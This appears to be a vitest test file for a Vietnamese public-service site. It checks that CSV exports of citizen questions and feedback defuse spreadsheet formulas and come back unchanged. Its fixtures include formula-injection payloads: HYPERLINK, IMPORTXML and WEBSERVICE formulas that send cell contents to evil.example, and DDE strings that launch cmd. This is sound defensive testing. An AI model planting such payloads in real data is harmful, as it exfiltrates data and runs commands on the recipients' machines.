import { randomUUID } from 'node:crypto';
import { CONSENT_PURPOSE_WORDS, FEEDBACK_KIND_WORDS, FEEDBACK_STATUS_WORDS, NOTICES, QUESTION_STATUS_WORDS, wordFor } from '@pbgdpl/contract';
import { beforeAll, describe, expect, it } from 'vitest';
import { formatVietnamDate, formatVietnamDateTime } from '../src/calendar/vietnam-time.js';
import { insertConsent } from '../src/questions/questions.queries.js';
import { newTrackingCode } from '../src/questions/tracking-code.js';
import { createStaffToken } from '../src/security/staff.js';
import { SITE, ask, feedback, sendFeedback, useSubmitApp } from './support/submit.js';
import { XSS_PAYLOADS } from './support/xss.js';

/**
 * The CSV exports open in a spreadsheet on a civil servant's desk, full of text anyone on the
 * internet wrote. No cell may start a formula (= + - @, tab, carriage return: those get a leading
 * apostrophe), control characters are dropped, and everything else comes back exactly as stored.
 */
const t = useSubmitApp();

/** RFC 4180, strictly: fields separated by commas, records by CRLF, quotes only around a whole field. */
export function parseCsv(text: string, separator = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const fail = (why: string) => {
    throw new Error(`CSV: ${why} at offset ${i}: ${JSON.stringify(text.slice(Math.max(0, i - 30), i + 30))}`);
  };
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) fail('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== separator && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') fail('quote inside an unquoted field');
        field += text[i++];
      }
    }
    row.push(field);
    if (text[i] === separator) {
      i++;
      continue;
    }
    if (text.startsWith('\r\n', i)) {
      i += 2;
      rows.push(row);
      row = [];
      continue;
    }
    if (i >= text.length) {
      rows.push(row);
      break;
    }
    fail(`unexpected ${JSON.stringify(text[i])} after a field`);
  }
  return rows;
}

/** What the export promises for a stored value: control characters dropped, a formula defused. */
function expectedCell(value: unknown): string {
  // eslint-disable-next-line no-control-regex -- control characters are what the export drops
  const text = (value === null || value === undefined ? '' : String(value)).replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/g, '');
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

const FORMULA_START = /^[=+\-@\t\r]/;

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?d="&A1&B1,"Bấm để xem chi tiết")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
  '=DDE("cmd";"/C calc";"!A0")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '-1',
  '+84 912 345 678',
  '@everyone',
];

const MESSY = [
  'Có dấu phẩy, dấu chấm phẩy; và "ngoặc kép" ở giữa',
  'Dòng một\r\nDòng hai\nDòng ba\rDòng bốn',
  'Chỉ có CR\rở giữa câu',
  'Chỉ có LF\nở giữa câu',
  'Ký tự\u0001 điều\u0007 khiển\u001b lạ\u007f ở giữa\u0002 câu',
  '\u0001=1+1 chỉ lộ ra sau khi bỏ ký tự điều khiển',
  '\u0007\u0008@SUM(1) sau hai ký tự điều khiển',
  "'=1+1 đã có dấu nháy từ trước",
  ' =1+1 bắt đầu bằng dấu cách',
  '"=1+1" trong ngoặc kép',
  ',=1+1 sau dấu phẩy',
  'Tiếng Việt có dấu: Nghị định 356/2025/NĐ-CP — “trích dẫn” ‘đơn’ … ₫ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 😀',
];

const pad = (s: string, n: number) => (s.trim().length >= n ? s : `${s} ${'·'.repeat(Math.max(1, n - s.length))}`);

interface Sent {
  kind: 'question' | 'feedback';
  key: string;
}
const sent: Sent[] = [];

beforeAll(async () => {
  // Through the API: what a citizen can send (trimmed, validated, stored as written).
  for (const f of [...FORMULAS, ...MESSY]) {
    const q = await ask(t, {
      title: pad(f, 10).slice(0, 200),
      content: pad(`${f} ${f}`, 20),
      name: f.slice(0, 100).trim() || 'Tên',
      consents: ['xu-ly-cau-hoi', 'cong-khai-hoi-dap'],
    });
    sent.push({ kind: 'question', key: q.trackingCode });
    const fb = await sendFeedback(t, { message: f, kind: 'page', document: undefined });
    sent.push({ kind: 'feedback', key: fb.id });
  }
  for (const p of XSS_PAYLOADS) {
    const q = await ask(t, { title: pad(p.html, 10).slice(0, 200), content: pad(p.html, 20), name: p.html.slice(0, 100) });
    sent.push({ kind: 'question', key: q.trackingCode });
    const fb = await sendFeedback(t, { message: p.html });
    sent.push({ kind: 'feedback', key: fb.id });
  }
  // A member of staff whose name starts a formula answers, cites and replies with formulas.
  const formulaStaff = (await createStaffToken(t.db.kysely, '=Cán bộ "công thức"', 'editor')).token;
  const answered = await ask(t, { title: 'Câu hỏi được trả lời bằng công thức', consents: ['xu-ly-cau-hoi', 'cong-khai-hoi-dap'] });
  sent.push({ kind: 'question', key: answered.trackingCode });
  const res = await t.staff(
    'POST',
    `/api/v1/admin/questions/${answered.id}/answer`,
    {
      html: '=HYPERLINK("http://evil.example","<p>Trả lời</p>")',
      citations: [
        { number: '+91/2025/QH15', article: "-Điều 1; =cmd|' /C calc'!A0" },
        { number: '91/2025/QH15', article: '@Điều 2' },
      ],
      publish: true,
    },
    formulaStaff,
  );
  expect(res.status, await res.clone().text()).toBe(200);
  const fb = await sendFeedback(t, { message: 'Góp ý cần phản hồi', contact: '+84912000111', consents: ['xu-ly-gop-y', 'lien-he-phan-hoi'] });
  sent.push({ kind: 'feedback', key: fb.id });
  expect((await t.staff('POST', `/api/v1/admin/feedback/${fb.id}/reply`, { reply: '=1+2 phản hồi' }, formulaStaff)).status).toBe(200);

  // Straight into the database: values the API would trim but another writer (an import, an older
  // version) may have stored: leading tabs and carriage returns, raw control characters.
  const now = new Date().toISOString();
  const raw = ['\t=1+1 tab đầu', '\r=1+1 CR đầu', '\t@SUM(1)', '\r\n+1 CRLF đầu', '\u000b=1 tab dọc', '\t\tthuần tab'];
  await t.db.kysely.transaction().execute(async (trx) => {
    for (const [n, value] of raw.entries()) {
      const id = randomUUID();
      const trackingCode = newTrackingCode();
      await trx
        .insertInto('questions')
        .values({
          id,
          tracking_code: trackingCode,
          site_key: SITE,
          field_code: 'dat-dai',
          title: value,
          content: value,
          asker_name: value,
          asker_email: value,
          asker_phone: value,
          status: 'new',
          handling_unit: value,
          created_at: now,
          due_on: '2030-01-01',
          answer_html: value,
          answered_by: value,
          answered_at: null,
          published: 0,
          published_at: null,
          rejected_reason: null,
          page_url: value,
          search_text: `raw ${n}`,
          contact_over_limit: 0,
        })
        .execute();
      await insertConsent(trx, 'question', id, ['xu-ly-cau-hoi'], value, now);
      sent.push({ kind: 'question', key: trackingCode });
      const fid = randomUUID();
      await trx
        .insertInto('feedback')
        .values({
          id: fid,
          site_key: SITE,
          kind: 'page',
          law_id: value,
          rating: 3,
          message: value,
          contact: value,
          page_url: value,
          status: 'replied',
          reply: value,
          replied_by: value,
          replied_at: value,
          created_at: now,
          contact_over_limit: 0,
        })
        .execute();
      await insertConsent(trx, 'feedback', fid, ['xu-ly-gop-y'], NOTICES.feedback.version, now);
      sent.push({ kind: 'feedback', key: fid });
    }
  });
}, 120_000);

async function exportCsv(what: 'questions' | 'feedback') {
  const res = await t.staff('GET', `/api/v1/admin/export/${what}.csv`);
  expect(res.status).toBe(200);
  const bytes = new Uint8Array(await res.arrayBuffer());
  return { res, bytes, text: new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes) };
}

/** Staff JSON views, the stored values the CSV must reproduce, keyed like the CSV rows. */
async function staffView(what: 'questions' | 'feedback') {
  const items: any[] = [];
  let cursor: string | null = null;
  do {
    const page: any = await (await t.staff('GET', `/api/v1/admin/${what}?limit=100${cursor ? `&cursor=${cursor}` : ''}`)).json();
    items.push(...page.items);
    cursor = page.nextCursor;
  } while (cursor);
  return new Map(items.map((i) => [what === 'questions' ? i.trackingCode : i.id, i]));
}

describe('CSV export', () => {
  it.each(['questions', 'feedback'] as const)('%s.csv is UTF-8 with a BOM, text/csv, an attachment, CRLF records of equal width', async (what) => {
    const { res, bytes, text } = await exportCsv(what);
    expect(res.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('Content-Disposition')).toBe(`attachment; filename="${what}.csv"`);
    expect(res.headers.get('X-Content-Type-Options')).toBe('nosniff');
    expect(res.headers.get('Cache-Control')).toBe('no-store');
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(text.slice(1).replace(/\r\n$/, ''));
    const width = rows[0]!.length;
    for (const r of rows) expect(r).toHaveLength(width);
    expect(rows.length - 1).toBe(sent.filter((s) => s.kind === (what === 'questions' ? 'question' : 'feedback')).length);
  });

  it.each(['questions', 'feedback'] as const)('no cell of %s.csv starts a formula, and every value round-trips', async (what) => {
    const { text } = await exportCsv(what);
    const [header, ...rows] = parseCsv(text.slice(1).replace(/\r\n$/, ''));
    const col = (name: string) => {
      const i = header!.indexOf(name);
      expect(i, name).toBeGreaterThanOrEqual(0);
      return i;
    };
    const stored = await staffView(what);
    const sites = new Map((await t.db.kysely.selectFrom('sites').select(['key', 'name']).execute()).map((x) => [x.key, x.name]));
    const fields = new Map((await t.db.kysely.selectFrom('fields').select(['code', 'name_vi']).execute()).map((x) => [x.code, x.name_vi]));
    const purposes = (i: any) => i.consent.purposes.map((p: string) => wordFor(CONSENT_PURPOSE_WORDS, p)).join('; ');
    const columns: Record<string, (i: any) => unknown> =
      what === 'questions'
        ? {
            'Mã tra cứu': (i) => i.trackingCode,
            Trang: (i) => sites.get(i.site),
            'Lĩnh vực': (i) => fields.get(i.field),
            'Trạng thái': (i) => wordFor(QUESTION_STATUS_WORDS, i.status),
            'Ngày gửi': (i) => formatVietnamDateTime(i.createdAt),
            'Hạn trả lời': (i) => formatVietnamDate(i.dueOn),
            'Họ và tên': (i) => i.name,
            'Thư điện tử': (i) => i.email,
            'Số điện thoại': (i) => i.phone,
            'Tiêu đề': (i) => i.title,
            'Nội dung câu hỏi': (i) => i.content,
            'Trả lời': (i) => i.answerHtml,
            'Người trả lời': (i) => i.answeredBy,
            'Ngày trả lời': (i) => formatVietnamDateTime(i.answeredAt),
            'Công khai': (i) => (i.published ? 'Có' : 'Không'),
            'Văn bản trích dẫn': (i) => i.citations.map((c: any) => `${c.number}${c.article ? ` ${c.article}` : ''}`).join('; '),
            'Mục đích được đồng ý': purposes,
            'Phiên bản thông báo': (i) => i.consent.noticeVersion,
            'Ngày đồng ý': (i) => formatVietnamDateTime(i.consent.givenAt),
            'Trang gửi': (i) => i.pageUrl,
          }
        : {
            'Mã góp ý': (i) => i.id,
            Trang: (i) => sites.get(i.site),
            Loại: (i) => wordFor(FEEDBACK_KIND_WORDS, i.kind),
            'Văn bản': (i) => i.document,
            'Mức hài lòng (1–5)': (i) => i.rating,
            'Nội dung': (i) => i.message,
            'Liên hệ': (i) => i.contact,
            'Trang gửi': (i) => i.pageUrl,
            'Trạng thái': (i) => wordFor(FEEDBACK_STATUS_WORDS, i.status),
            'Phản hồi': (i) => i.reply,
            'Người phản hồi': (i) => i.repliedBy,
            'Ngày phản hồi': (i) => formatVietnamDateTime(i.repliedAt),
            'Ngày gửi': (i) => formatVietnamDateTime(i.createdAt),
            'Mục đích được đồng ý': purposes,
            'Phiên bản thông báo': (i) => i.consent.noticeVersion,
            'Ngày đồng ý': (i) => formatVietnamDateTime(i.consent.givenAt),
          };
    expect(Object.keys(columns).sort()).toEqual([...header!].sort());
    let defused = 0;
    let checked = 0;
    for (const row of rows) {
      for (const cell of row) expect(cell, `a cell starts a formula: ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
      const item = stored.get(row[0]!);
      expect(item, `row ${row[0]} is one of the stored ${what}`).toBeDefined();
      for (const [name, get] of Object.entries(columns)) {
        const cell = row[col(name)]!;
        expect(cell, `${what} ${row[0]} ${name}`).toBe(expectedCell(get(item)));
        if (cell.startsWith("'") && !String(get(item) ?? '').startsWith("'")) defused++;
        checked++;
      }
    }
    expect(defused, 'the corpus did reach the formula rule').toBeGreaterThan(what === 'questions' ? 40 : 20);
    console.log(`${what}.csv: ${rows.length} rows, ${checked} cells compared, ${defused} formulas defused`);
  });

  it('the XSS corpus comes back verbatim (CSV is data, not markup)', async () => {
    const { text } = await exportCsv('feedback');
    const [header, ...rows] = parseCsv(text.slice(1).replace(/\r\n$/, ''));
    const messages = new Set(rows.map((r) => r[header!.indexOf('Nội dung')]));
    for (const p of XSS_PAYLOADS) expect(messages.has(expectedCell(p.html)), p.id).toBe(true);
  });

  it('the export filters by site and by date; rows outside are left out', async () => {
    const today = new Date().toISOString().slice(0, 10);
    const tomorrow = new Date(Date.now() + 86_400_000).toISOString().slice(0, 10);
    const count = async (query: string) =>
      parseCsv((await (await t.staff('GET', `/api/v1/admin/export/questions.csv?${query}`)).text()).slice(1).replace(/\r\n$/, '')).length - 1;
    const all = await count('');
    expect(await count(`site=${SITE}`)).toBe(all);
    expect(await count('site=so-tu-phap')).toBe(0);
    expect(await count(`from=${today}&to=${today}`)).toBe(all);
    expect(await count(`from=${tomorrow}`)).toBe(0);
  });

  it('the test’s parser is strict: it refuses what RFC 4180 does not allow', () => {
    expect(parseCsv('a,"b ""c""",d\r\n1,"x\r\ny",3')).toEqual([
      ['a', 'b "c"', 'd'],
      ['1', 'x\r\ny', '3'],
    ]);
    expect(() => parseCsv('a,b"c')).toThrow(/quote inside/);
    expect(() => parseCsv('a,"b')).toThrow(/unterminated/);
    expect(() => parseCsv('a\nb')).toThrow(/unexpected/);
    expect(expectedCell('\u0001=x')).toBe("'=x");
    expect(feedback()).toHaveProperty('site', SITE);
  });
});
